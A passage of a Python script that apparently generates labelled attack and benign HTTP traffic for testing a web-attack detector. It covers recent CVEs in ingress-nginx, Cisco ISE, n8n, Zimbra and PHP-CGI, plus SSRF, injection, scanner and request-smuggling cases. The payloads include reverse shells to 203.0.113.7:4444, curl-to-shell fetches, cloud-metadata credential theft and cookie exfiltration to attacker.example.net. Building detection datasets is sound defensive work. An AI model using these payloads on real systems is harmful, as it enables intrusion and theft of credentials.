                                    "type": "sql", "hide": False, "expression": expr, "window": ""}],
                       "from": "1729313027261", "to": "1729334627261"}), ctype=JSON_CT, ua=g.tool())


def atk_ingress(g):
    def review(ann, name="example-app"):
        return jd({"kind": "AdmissionReview", "apiVersion": "admission.k8s.io/v1", "request": {
            "uid": g.uuid(), "kind": {"group": "networking.k8s.io", "version": "v1", "kind": "Ingress"},
            "resource": {"group": "networking.k8s.io", "version": "v1", "resource": "ingresses"},
            "requestKind": {"group": "networking.k8s.io", "version": "v1", "kind": "Ingress"},
            "requestResource": {"group": "networking.k8s.io", "version": "v1", "resource": "ingresses"},
            "name": name, "namespace": "default", "operation": "CREATE",
            "userInfo": {"username": "kubernetes-admin", "groups": ["system:masters", "system:authenticated"]},
            "object": {"kind": "Ingress", "apiVersion": "networking.k8s.io/v1", "metadata": {
                "name": name, "namespace": "default", "creationTimestamp": None, "annotations": ann},
                "spec": {"ingressClassName": "nginx", "rules": [{"host": "app.example.com", "http": {"paths": [
                    {"path": "/", "pathType": "Prefix", "backend": {"service": {"name": "kubernetes", "port": {"number": 443}}}}]}}]},
                "status": {"loadBalancer": {}}},
            "oldObject": None, "dryRun": False, "options": {"kind": "CreateOptions", "apiVersion": "meta.k8s.io/v1"}}})
    cases = [
        ("rce", "cve-2025-24514", {"nginx.ingress.kubernetes.io/auth-url": "http://example.com/#;\n}}}\nssl_engine /proc/1/fd/19;\n#"}),
        ("rce", "cve-2025-1097", {"nginx.ingress.kubernetes.io/auth-tls-match-cn": "CN=abc #(\n){}\n }}\nssl_engine ../../../../../../proc/60/fd/18;\n#",
                                   "nginx.ingress.kubernetes.io/auth-tls-secret": "kube-system/konnectivity-certs"}),
        ("rce", "cve-2025-1098", {"nginx.ingress.kubernetes.io/mirror-target": "https://example.com/$request_uri;\n}\nssl_engine /tmp/nginx-client-body-0000000001;\n#",
                                   "nginx.ingress.kubernetes.io/mirror-host": "example.com"}),
        ("rce", "cve-2025-24514", {"nginx.ingress.kubernetes.io/auth-url": "http://a.example.com/x;}}\nload_module /proc/self/fd/22;\n#"}),
        ("rce", "cve-2021-25742", {"nginx.ingress.kubernetes.io/configuration-snippet": "content_by_lua_block { ngx.say(io.popen('cat /var/run/secrets/kubernetes.io/serviceaccount/token'):read('*a')) }"}),
        ("lfi", "cve-2025-1097", {"nginx.ingress.kubernetes.io/auth-tls-match-cn": "CN=x\"; }\nlocation /leak { alias /etc/; }\n#"}),
    ]
    for cat, cve, ann in cases:
        g.add(cat, "ingress-nginx-" + cve, "POST", "/networking/v1/ingresses?timeout=10s",
              "ingress-nginx-controller-admission.ingress-nginx.svc:443", body=review(ann, "app-" + g.alnum(5).lower()),
              ctype=JSON_CT, ua="kube-apiserver-admission", accept="application/json, */*")


def atk_misc_products(g):
    T = "commvault-cve-2025-34028"
    for sp in ["../../Reports/MetricsUpload/shell/", "..\\..\\Reports\\MetricsUpload\\wt\\"]:
        g.add("ssrf", T, "POST", "/commandcenter/deployWebpackage.do", "backup.example.com",
              body=form([("commserver", "%s:443" % ATK), ("servicePack", sp), ("version", "watchTowr")]), ctype=FORM,
              ua=g.tool())
    T = "sonicwall-sma-cve-2024-38475"
    g.add("lfi", T, "GET", "/manual/..%2f..%2f..%2f..%2fmnt%2fdatabase%2fdb%3f.1.1.1.1a-1.css", "sslvpn.example.com", ua=g.tool())
    g.add("lfi", T, "GET", "/manual/%2fmnt%2ftemp%2fsessions%2fs%3f.1.1.1.1a-1.css", "sslvpn.example.com", ua=g.tool())
    T = "sonicwall-cve-2024-53704"
    g.add("generic", T, "GET", "/cgi-bin/sslvpnclient?launchplatform=", "sslvpn.example.com",
          [("Cookie", "swap=" + b64(b"\x00" * 32))], ua=g.tool())
    T = "sonicwall-sma-cve-2025-32819"
    g.add("lfi", T, "POST", "/cgi-bin/sessionExtend", "sslvpn.example.com",
          body=form([("fileName", "../../../../etc/EasyAccessCtrl.conf")]), ctype=FORM, ua=g.tool())
    T = "cisco-ise-cve-2025-20281"
    for name in ["pwnd; {bash,-c,{echo,%s}|{base64,-d}|{bash,-i}}; #" % b64("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
                 "x; {curl,-s,http://%s/i}|{sh}; #" % ATK]:
        g.add("rce", T, "POST", "/ers/sdk", "ise.example.com", [("Accept", "application/json")],
              body=jd({"InternalUser": {"name": name, "password": "Abc123!!", "changePassword": False}}),
              ctype=JSON_CT, ua=g.tool())
    T = "n8n-cve-2025-68613"
    for cmd in ["id", "cat /home/node/.n8n/config", "env"]:
        wf = {"name": "My workflow " + g.alnum(3), "nodes": [
            {"parameters": {}, "name": "Manual Trigger", "type": "n8n-nodes-base.manualTrigger", "typeVersion": 1, "position": [240, 300]},
            {"parameters": {"values": {"string": [{"name": "out", "value":
                "={{ (function(){ return this.process.mainModule.require('child_process').execSync('%s').toString() })() }}" % cmd}]}},
             "name": "Set", "type": "n8n-nodes-base.set", "typeVersion": 1, "position": [460, 300]}],
            "connections": {"Manual Trigger": {"main": [[{"node": "Set", "type": "main", "index": 0}]]}}, "settings": {}}
        g.add("ssti", T, "POST", "/rest/workflows", "n8n.example.com", [("Cookie", "n8n-auth=" + g.alnum(60))],
              body=jd(wf), ctype=JSON_CT, accept="application/json, text/plain, */*")
    T = "n8n-cve-2026-21858"
    for fp in ["/home/node/.n8n/config", "/home/node/.n8n/database.sqlite"]:
        g.add("lfi", T, "POST", "/form/" + g.uuid(), "n8n.example.com",
              body=jd({"data": {}, "files": {"file": {"filepath": fp, "originalFilename": "a.txt", "mimetype": "text/plain", "size": 1}}}),
              ctype=JSON_CT, ua=g.tool())
    T = "flowise-cve-2025-59528"
    g.add("rce", T, "POST", "/api/v1/node-load-method/customMCP", "flowise.example.com",
          body=jd({"loadMethod": "listActions", "inputs": {"mcpServerConfig":
                   "({x:(function(){const cp = process.mainModule.require(\"child_process\");cp.execSync(\"touch /tmp/fw\");return 1;})()})"}}),
          ctype=JSON_CT, ua=g.tool())
    T = "vite-cve-2025-30208"
    for uri in ["/@fs/etc/passwd?import&raw??", "/@fs/proc/self/environ?raw??",
                "/@fs/app/.env?import&?inline=1.wasm?init", "/@fs/tmp/vite/project/#/../../../../../etc/shadow",
                "/@fs/C:/Windows/win.ini?import&raw??"]:
        cve = "vite-cve-2025-30208" if "raw??" in uri else ("vite-cve-2025-31125" if "wasm" in uri else "vite-cve-2025-32395")
        g.add("lfi", cve, "GET", uri, "dev.example.com:5173", ua=g.tool())
    T = "cleo-cve-2024-50623"
    g.add("lfi", T, "GET", "/Synchronization", "mft.example.com",
          [("VLSync", "Retrieve;path=..\\..\\..\\..\\Windows\\win.ini;Services;host=")], ua=g.tool())
    g.add("lfi", T, "GET", "/Synchronization", "mft.example.com",
          [("VLSync", "Retrieve;path=../../../../../etc/passwd;Services;host=")], ua=g.tool())
    T = "simplehelp-cve-2024-57727"
    g.add("lfi", T, "GET", "/toolbox-resource/../resource1/../../configuration/serverconfig.xml", "support.example.com", ua=g.tool())
    g.add("lfi", T, "GET", "/toolbox-resource/../secmsg/../../configuration/serverconfig.xml", "support.example.com", ua=g.tool())
    T = "wingftp-cve-2025-47812"
    g.add("rce", T, "POST", "/loginok.html", "ftp.example.com",
          body="username=anonymous%00]]%0dlocal+h+%3d+io.popen(\"id\")%0dlocal+r+%3d+h%3aread(\"*a\")%0dh%3aclose()%0dprint(r)%0d--&password=",
          ctype=FORM, ua=g.tool())
    T = "cacti-cve-2025-24367"
    lab = ("XXX\ncreate my.rrd --step 300 DS:temp:GAUGE:600:-273:5000 RRA:AVERAGE:0.5:1:1200\n"
           "graph xxx.php -s now -a CSV DEF:out=my.rrd:temp:AVERAGE LINE1:out:<?=`id`;?>\n")
    g.add("php", T, "POST", "/cacti/graph_templates.php?header=false", "cacti.example.com",
          [("Cookie", "Cacti=" + g.alnum(26))],
          body=form([("__csrf_magic", "sid:" + g.hexs(40) + "," + str(g.r.randrange(10**9))), ("name", "Template"),
                     ("graph_template_id", "297"), ("right_axis_label", lab), ("action", "save"), ("save_component_template", "1")]),
          ctype=FORM)
    T = "livewire-cve-2025-54068"
    g.add("php", T, "POST", "/livewire/update", "app.example.com", [("X-Livewire", "true")],
          body=jd({"_token": g.alnum(40), "components": [{"snapshot": jd({"data": {"items": [[], {"s": "arr"}]},
                   "memo": {"id": g.alnum(20), "name": "cart"}, "checksum": g.hexs(64)}),
                   "updates": {"items": [{"__toString": "phpinfo"}, {"s": "clctn", "class": "GuzzleHttp\\Psr7\\FnStream"}]},
                   "calls": []}]}), ctype=JSON_CT, ua=g.tool())
    T = "zabbix-cve-2024-42327"
    for sel in ["roleid, (SELECT GROUP_CONCAT(sessionid) FROM sessions WHERE userid=1) AS x",
                "readonly AND (SELECT(SLEEP(5)))"]:
        g.add("sqli", T, "POST", "/api_jsonrpc.php", "zabbix.example.com",
              body=jd({"jsonrpc": "2.0", "method": "user.get", "params": {"selectRole": ["roleid", "name", "type", sel], "userids": ["1", "2"]},
                       "auth": g.hexs(32), "id": 1}), ctype="application/json-rpc", ua=g.tool())
    T = "glpi-cve-2025-24799"
    g.add("sqli", T, "POST", "/front/inventory.php", "glpi.example.com",
          body='<?xml version="1.0" encoding="UTF-8" ?><xml><QUERY>get_params</QUERY><deviceid>es/**/AND/**/(SELECT/**/SLEEP(5))#</deviceid><content><versionclient>2.5.2-1</versionclient></content></xml>',
          ctype="application/xml", ua="GLPI-Agent_v1.7")
    T = "ivanti-epm-cve-2024-29824"
    soap = ('<?xml version="1.0" encoding="utf-8"?><soap12:Envelope xmlns:soap12="http://www.w3.org/2003/05/soap-envelope">'
            '<soap12:Body><UpdateStatusEvents xmlns="http://tempuri.org/"><deviceID>string</deviceID><actionCode>01</actionCode>'
            "<actionData>xx' ; EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE; EXEC xp_cmdshell 'whoami'--</actionData>"
            '</UpdateStatusEvents></soap12:Body></soap12:Envelope>')
    g.add("sqli", T, "POST", "/WSStatusEvents/EventHandler.asmx", "epm.example.com", body=soap,
          ctype="application/soap+xml; charset=utf-8", ua=g.tool())
    T = "kibana-cve-2025-25012"
    g.add("generic", T, "POST", "/api/saved_objects/_import?overwrite=true", "kibana.example.com", [("kbn-xsrf", "true")],
          body=jd({"type": "index-pattern", "id": "x", "attributes": {"title": "x"},
                   "__proto__": {"shell": "/proc/self/exe", "NODE_OPTIONS": "--require /proc/self/environ", "env": {"A": "require('child_process').execSync('id')"}}}),
          ctype=JSON_CT, ua=g.tool())
    T = "zimbra-cve-2025-27915"
    ics = ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:" + g.uuid() + "\r\nSUMMARY:Q3 review\r\n"
           "DESCRIPTION:<details open ontoggle=eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS5uZXQvJytkb2N1bWVudC5jb29raWUp'))>\r\n"
           "DTSTART:20251001T100000Z\r\nDTEND:20251001T110000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
    g.add("xss", T, "POST", "/service/home/~/Calendar?fmt=ics", "zimbra.example.com",
          [("Cookie", "ZM_AUTH_TOKEN=0_" + g.hexs(40))], body=ics, ctype="text/calendar")
    T = "apache-confusion-cve-2024-38474"
    g.add("generic", T, "GET", "/admin.php%3Fooo.php", "www.example.com", ua=g.tool())


def atk_generic(g):
    # PHP-CGI soft hyphen (CVE-2024-4577) and WorstFit best-fit argument injection
    T = "php-cgi-cve-2024-4577"
    g.add("php", T, "POST", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
          "win.example.com", body='<?php echo md5("CVE-2024-4577"); ?>', ctype=FORM, ua=g.tool())
    g.add("php", T, "POST", "/cgi-bin/php-cgi.exe?%ADd+cgi.force_redirect%3d0+%ADd+cgi.redirect_status_env+%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
          "win.example.com", body="<?php system('whoami'); ?>", ctype=FORM, ua=g.tool())
    g.add("rfi", T, "GET", "/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dhttp://" + ATK + "/x.txt",
          "win.example.com", ua=g.tool())
    g.add("rfi", T, "GET", "/test.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3d" + q("data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+"),
          "win.example.com", ua=g.tool())
    T = "worstfit-best-fit"
    g.add("generic", T, "GET", "/cgi-bin/wget.exe?url=" + q("＂ --use-askpass=calc ＂"), "win.example.com", ua=g.tool())
    g.add("rce", T, "GET", "/tools/convert.php?file=" + q("a.png＂ ＂-write＂ ＂C:\\inetpub\\wwwroot\\s.php"), "win.example.com", ua=g.tool())
    g.add("lfi", T, "GET", "/download?file=" + q("..¥..¥..¥windows¥win.ini"), "win.example.com", ua=g.tool())
    g.add("lfi", T, "GET", "/static/" + q("..／..／..／etc／passwd", safe="/"), "win.example.com", ua=g.tool())
    g.add("php", T, "GET", "/index.php?" + q("＂-d allow_url_include=1 -d auto_prepend_file=php://input"), "win.example.com",
          ua=g.tool())
    T = "crlf-injection"
    for uri in ["/login?next=" + "%2F%0d%0aSet-Cookie:%20session=attacker%3B%20Path=%2F",
                "/%0d%0aX-Injected:%20smuggled%0d%0aContent-Length:%200",
                "/redirect?to=%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1",
                "/api/v1/download?filename=report.pdf%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E",
                "/oauth2/start?rd=https%3A%2F%2Fapp.example.com%2F%0D%0ALocation%3A%20https%3A%2F%2F" + ATK]:
        g.add("crlf", T, "GET", uri, g.r.choice(["app.example.com", "sso.example.com", "auth.example.com"]), ua=g.tool())
    T = "ssti-2025"
    for host, uri, body in [
        ("changes.example.com", "/edit/" + g.uuid(), form([("url", "https://example.com"),
            ("notification_body", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}")])),
        ("grav.example.com", "/admin/pages/home", form([("data[content]", "{{ ['id']|filter('system') }}"), ("task", "save")])),
        ("grav.example.com", "/admin/pages/blog", form([("data[content]", "{{ grav.twig.twig.registerUndefinedFilterCallback('exec') }}{{ grav.twig.twig.getFilter('cat /etc/passwd') }}"), ("task", "save")])),
        ("alfresco.example.com", "/share/service/modules/preview", form([("template", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}')])),
        ("confluence.example.com", "/template/aui/text-inline.vm", form([("label", "\\u0027+#request.get(\\u0027.KEY_velocity.struts2.context\\u0027).internalGet(\\u0027ognl\\u0027).findValue(#parameters.x,{})+\\u0027"), ("x", "@org.apache.struts2.ServletActionContext@getResponse().setHeader('X-Cmd',(new freemarker.template.utility.Execute()).exec({'id'}))")])),
        ("app.example.com", "/preview?lang=" + q("__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"), None),
        ("shop.example.com", "/search?q=" + q("{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}"), None),
        ("cms.example.com", "/contact", form([("name", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')"), ("msg", "hi")])),
    ]:
        if body is None:
            g.add("ssti", T, "GET", uri, host, ua=g.tool())
        else:
            g.add("ssti", T, "POST", uri, host, body=body, ctype=FORM)


def atk_ssrf(g):
    T = "cloud-metadata-ssrf"
    cases = [
        ("GET", "/proxy?url=" + q("http://169.254.169.254/latest/api/token") + "&method=PUT",
         [("X-aws-ec2-metadata-token-ttl-seconds", "21600")], None),
        ("GET", "/fetch?url=" + q("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
         [("X-aws-ec2-metadata-token", "AQAEAJ" + g.alnum(50) + "==")], None),
        ("POST", "/api/link-preview", [], jd({"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/eks-node-role"})),
        ("GET", "/api/v1/proxy?target=" + q("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
         [("Metadata-Flavor", "Google")], None),
        ("GET", "/render?url=" + q("http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
         [("Metadata", "true")], None),
        ("GET", "/avatar?src=" + q("http://[fd00:ec2::254]/latest/meta-data/"), [], None),
        ("GET", "/img?url=http://2852039166/latest/user-data", [], None),
        ("GET", "/img?url=http://0xA9FEA9FE/latest/meta-data/hostname", [], None),
        ("GET", "/img?url=" + q("http://[::ffff:a9fe:a9fe]/latest/meta-data/"), [], None),
        ("POST", "/api/webhooks", [], jd({"name": "deploy", "url": "http://100.100.100.200/latest/meta-data/ram/security-credentials/", "events": ["push"]})),
        ("GET", "/fetch?u=" + q("http://169.254.169.254/opc/v2/instance/"), [("Authorization", "Bearer Oracle")], None),
        ("POST", "/api/import", [], jd({"source": "http://169.254.170.2/v2/credentials/" + g.uuid()})),
        ("POST", "/api/import", [], jd({"source": "http://169.254.170.23/v1/credentials"})),
        ("GET", "/proxy?url=" + q("https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
         [("Authorization", "Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6Ik" + g.alnum(40))], None),
        ("GET", "/fetch?url=" + q("gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2456%0D%0A%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F203.0.113.7%2F4444%200%3E%261%0A%0A%0D%0A"), [], None),
        ("GET", "/api/preview?url=" + q("file:///var/run/secrets/kubernetes.io/serviceaccount/token"), [], None),
    ]
    for method, uri, hs, body in cases:
        host = g.r.choice(["app.example.com", "api.example.com", "portal.example.com", "cdn-proxy.example.com"])
        if body is None:
            g.add("ssrf", T, method, uri, host, hs, ua=g.tool())
        else:
            g.add("ssrf", T, method, uri, host, hs, body=body, ctype=JSON_CT, ua=g.tool())
    # n8n HTTP Request node aimed at IMDSv2
    wf = {"name": "sync", "nodes": [{"parameters": {"method": "PUT", "url": "http://169.254.169.254/latest/api/token",
          "sendHeaders": True, "headerParameters": {"parameters": [{"name": "X-aws-ec2-metadata-token-ttl-seconds", "value": "21600"}]}},
          "name": "HTTP Request", "type": "n8n-nodes-base.httpRequest", "typeVersion": 4.2, "position": [400, 300]}], "connections": {}}
    g.add("ssrf", T, "POST", "/rest/workflows/run", "n8n.example.com", [("Cookie", "n8n-auth=" + g.alnum(60))],
          body=jd({"workflowData": wf}), ctype=JSON_CT)
    # Grafana datasource pointed at the metadata service
    g.add("ssrf", T, "POST", "/api/datasources", "grafana.example.com", [("Cookie", "grafana_session=" + g.hexs(32))],
          body=jd({"name": "prom2", "type": "prometheus", "access": "proxy", "url": "http://169.254.169.254/latest/meta-data/", "basicAuth": False}),
          ctype=JSON_CT)


def atk_nosql_ldap(g):
    T = "nosqli-mongo"
    cases = [
        ("api.example.com", "/api/auth/login", jd({"email": {"$gt": ""}, "password": {"$gt": ""}}), JSON_CT),
        ("api.example.com", "/api/users/login", jd({"username": "admin", "password": {"$ne": None}}), JSON_CT),
        ("chat.example.com", "/api/v1/login", jd({"user": {"$regex": "^adm"}, "password": {"$ne": "x"}}), JSON_CT),
        ("app.example.com", "/login", "username%5B%24ne%5D=toto&password%5B%24ne%5D=toto", FORM),
        ("app.example.com", "/api/search", jd({"filter": {"$where": "sleep(5000) || true"}}), JSON_CT),
        ("cms.example.com", "/api/users?where[email][$regex]=.*&where[password][$exists]=true", None, None),
        ("app.example.com", "/api/products", jd({"query": {"$expr": {"$function": {"body": "function(){return require('child_process').execSync('id').toString()}", "args": [], "lang": "js"}}}}), JSON_CT),
        ("app.example.com", "/reset", jd({"token": {"$ne": None}, "password": "N3wPass!"}), JSON_CT),
    ]
    for host, uri, body, ct in cases:
        if body is None:
            g.add("nosqli", T, "GET", uri, host, ua=g.tool(), accept="application/json")
        else:
            g.add("nosqli", T, "POST", uri, host, body=body, ctype=ct, ua=g.tool())
    T = "ldap-injection"
    cases = [
        ("grafana.example.com", "/login", jd({"user": "*)(uid=*))(|(uid=*", "password": "x"}), JSON_CT),
        ("jenkins.example.com", "/j_spring_security_check", form([("j_username", "admin)(|(objectClass=*)"), ("j_password", "x"), ("from", "/")]), FORM),
        ("sso.example.com", "/realms/corp/login-actions/authenticate?session_code=" + g.alnum(43), form([("username", "*)(&"), ("password", "*)(&")]), FORM),
        ("directory.example.com", "/people/search?q=" + q("*)(|(userPassword=*)"), None, None),
        ("glpi.example.com", "/front/ldap.import.php", form([("login_filter", "(&(objectClass=user)(cn=*))(|(memberOf=cn=Domain Admins,*)"), ("search", "1")]), FORM),
        ("mail.example.com", "/?_task=addressbook&_action=search&_q=" + q("*)(mail=*))%00"), None, None),
    ]
    for host, uri, body, ct in cases:
        if body is None:
            g.add("ldapi", T, "GET", uri, host, ua=g.tool())
        else:
            g.add("ldapi", T, "POST", uri, host, body=body, ctype=ct, ua=g.tool())


def atk_scanner(g):
    T = "scanner-payload"
    g.add("scanner", T, "GET", "/index.php?id=1" + q(" AND 4183=4183-- sEXr"), "www.example.com", ua="sqlmap/1.9.2#stable (https://sqlmap.org)")
    g.add("scanner", T, "GET", "/api/items?sort=" + q("(SELECT (CASE WHEN (7712=7712) THEN 'a' ELSE (SELECT 3183 UNION SELECT 2314) END))"),
          "api.example.com", ua="sqlmap/1.8.12#stable (https://sqlmap.org)")
    g.add("scanner", T, "GET", "/?x=" + q("${jndi:ldap://%s/nuclei}" % OAST), "www.example.com",
          ua="Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")
    g.add("scanner", T, "GET", "/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "www.example.com", ua="Fuzz Faster U Fool v2.1.0-dev")
    g.add("scanner", T, "GET", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php?cmd=" + q("; cat /etc/passwd"),
          "blog.example.com", ua="WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)")
    g.add("scanner", T, "GET", "/cgi-bin/test.cgi", "www.example.com",
          [("Referer", "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'")], ua="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)")
    g.add("scanner", T, "GET", "/search?q=" + q('"><script>alert(String.fromCharCode(88,83,83))</script>'), "shop.example.com",
          [("X-Scanner", "Acunetix-Deepscan"), ("Acunetix-Aspect", "enabled")], ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) acunetix-wvs-test")
    g.add("scanner", T, "GET", "/?url=" + q("http://x7k2m.oastify.example.com/"), "www.example.com",
          ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")
    g.add("scanner", T, "POST", "/xmlrpc.php", "blog.example.com",
          body='<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><methodCall><methodName>&x;</methodName></methodCall>',
          ctype="text/xml", ua="Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/89.0 zgrab/0.x")
    g.add("scanner", T, "GET", "/api/v1/users?id=" + q("1'\"`{{7*7}}${7*7}<%= 7*7 %>"), "api.example.com",
          ua="Mozilla/5.0 (compatible; Burp Suite Professional; Scanner)")


def atk_smuggling(g):
    T = "request-smuggling"
    H = "app.example.com"
    smug = b"GET /admin HTTP/1.1\r\nHost: localhost\r\nX-Ignore: x"
    def emit(data):
        g.raw("protocol", T, data)
    # CL.TE classic
    body = b"0\r\n\r\n" + smug
    emit(b"POST / HTTP/1.1\r\nHost: " + H.encode() + b"\r\nContent-Length: " + str(len(body)).encode() +
         b"\r\nTransfer-Encoding: chunked\r\n\r\n" + body)
    # TE obfuscations
    for te in [b"Transfer-Encoding: xchunked", b"Transfer-Encoding : chunked", b"Transfer-Encoding:\x0bchunked",
               b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", b"Transfer-Encoding:\r\n chunked",
               b"Transfer-Encoding: \"chunked\"", b"Transfer-encoding: cHuNkEd, identity", b"Transfer-Encoding: chunked\x00"]:
        body = b"5c\r\nGPOST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n"
        emit(b"POST /search HTTP/1.1\r\nHost: " + H.encode() + b"\r\nContent-Type: application/x-www-form-urlencoded\r\n"
             b"Content-Length: 4\r\n" + te + b"\r\n\r\n" + body)
    # chunk extension terminated by a bare LF (2025 "funky chunks" parser differential)
    emit(b"POST /api/upload HTTP/1.1\r\nHost: " + H.encode() + b"\r\nTransfer-Encoding: chunked\r\n\r\n"
         b"2;\nxx\r\n45\r\n0\r\n\r\nGET /internal/metrics HTTP/1.1\r\nHost: localhost\r\nX: \r\n0\r\n\r\n")
    emit(b"POST / HTTP/1.1\r\nHost: " + H.encode() + b"\r\nTransfer-Encoding: chunked\r\n\r\n"
         b"1;a=\"\nb\"\r\nx\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n")
    # chunk size line terminated by bare LF and oversized / overlong sizes
    emit(b"POST / HTTP/1.1\r\nHost: " + H.encode() + b"\r\nTransfer-Encoding: chunked\r\n\r\n"
         b"3\nabc\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n")
    emit(b"POST / HTTP/1.1\r\nHost: " + H.encode() + b"\r\nTransfer-Encoding: chunked\r\n\r\n"
         b"fffffffffffffffff3\r\nabc\r\n0\r\n\r\n")
    emit(b"POST / HTTP/1.1\r\nHost: " + H.encode() + b"\r\nTransfer-Encoding: chunked\r\n\r\n"
         b"0000000000000000000000003\r\nabc\r\n0\r\n\r\n" + smug)
    # 0.CL with an obfuscated Content-Length and Expect (2025 research)
    body = b"GET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"
    emit(b"GET /static/app.js HTTP/1.1\r\nHost: " + H.encode() + b"\r\nContent-Length :\r\n " + str(len(body)).encode() +
         b"\r\nExpect: 100-continue\r\n\r\n" + body)
    # duplicate, conflicting Content-Length
    emit(b"POST /login HTTP/1.1\r\nHost: " + H.encode() + b"\r\nContent-Length: 6\r\nContent-Length: 48\r\n\r\n"
         b"a=1&b=GET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n")
    # TE.0 on OPTIONS, smuggled absolute-form request
    emit(b"OPTIONS / HTTP/1.1\r\nHost: " + H.encode() + b"\r\nTransfer-Encoding: chunked\r\nConnection: keep-alive\r\n\r\n"
         b"50\r\nGET http://" + OAST.encode() + b"/ HTTP/1.1\r\nX: x\r\n0\r\n\r\n")
    # CL.0 on a static endpoint with a smuggled request in the body
    body = b"GET /api/admin/users HTTP/1.1\r\nFoo: x"
    emit(b"POST /favicon.ico HTTP/1.1\r\nHost: " + H.encode() + b"\r\nContent-Length: " + str(len(body)).encode() +
         b"\r\nConnection: keep-alive\r\n\r\n" + body)
    # bare-LF header lines with a smuggled request
    emit(b"POST / HTTP/1.1\nHost: " + H.encode() + b"\nTransfer-Encoding: chunked\nContent-Length: 3\n\n"
         b"0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n")


ATTACKS = [atk_nextjs, atk_react2shell, atk_tomcat, atk_sap, atk_citrix_ivanti, atk_crushftp, atk_craft,
           atk_roundcube, atk_magento, atk_dotnet, atk_freepbx, atk_oracle_ebs, atk_forti, atk_xwiki,
           atk_pythonish, atk_java_misc, atk_jndi, atk_wordpress, atk_grafana, atk_ingress, atk_misc_products,
           atk_generic, atk_ssrf, atk_nosql_ldap, atk_scanner, atk_smuggling]


# ---------------------------------------------------------------------------
# benign traffic of the same products
# ---------------------------------------------------------------------------

FIRST = ["Anna", "Ben", "Chloé", "Daniel", "Elif", "Farid", "Greta", "Hiro", "Inès", "Jonas", "Kavya", "Lars",
         "María", "Noah", "Olga", "Pedro", "Quinn", "Rania", "Sven", "Tomás", "Uma", "Viktor", "Wen", "Yara", "Zoë"]
LAST = ["Andersen", "Bauer", "Costa", "Dubois", "Eriksson", "Fischer", "García", "Hansen", "Ivanova", "Jensen",
        "Kowalski", "López", "Müller", "Nakamura", "O'Brien", "Petrov", "Rossi", "Schmidt", "Tanaka", "Van Dijk"]
CITIES = ["Berlin", "Lisbon", "Lyon", "Kraków", "Osaka", "Toronto", "Austin", "Melbourne", "São Paulo", "Zürich"]
PRODUCTS = ["Merino wool beanie", "Trail running shoes", "Ceramic pour-over set", "Bamboo cutting board",
            "Noise-cancelling headphones", "Linen shirt (slim fit)", "Cast-iron skillet 26cm", "USB-C hub 7-in-1",
            "Yoga mat – 6mm", "Espresso beans 1kg", "Kids' rain jacket", "Desk lamp with dimmer"]
WORDS = ["quarterly", "roadmap", "invoice", "onboarding", "release", "migration", "budget", "incident",
         "retrospective", "holiday", "planning", "security", "review", "customer", "feedback", "design"]
SEARCHES = ["winter jacket", "usb c cable", "how to reset password", "vacation policy", "q3 report", "api rate limits",
            "kubernetes upgrade", "expense form", "laptop stand", "coffee", "order status", "return policy",
            "grafana alert", "sso login", "café au lait", "naïve bayes", "C++ style guide", "100% cotton"]


def name(g):
    return g.r.choice(FIRST), g.r.choice(LAST)


def email(g):
    f, l = name(g)
    local = unicodedata.normalize("NFKD", (f + "." + l).lower().replace("'", "").replace(" ", ""))
    return local.encode("ascii", "ignore").decode() + "@example.com"


def sess(g, n=32):
    return g.alnum(n)


def ben_nextjs(g):
    H = "www.example.com"
    B = "benign"
    T = "nextjs"
    for i in range(8):
        path = g.r.choice(["/", "/products", "/products/" + g.alnum(8).lower(), "/blog/2025/" + g.r.choice(WORDS),
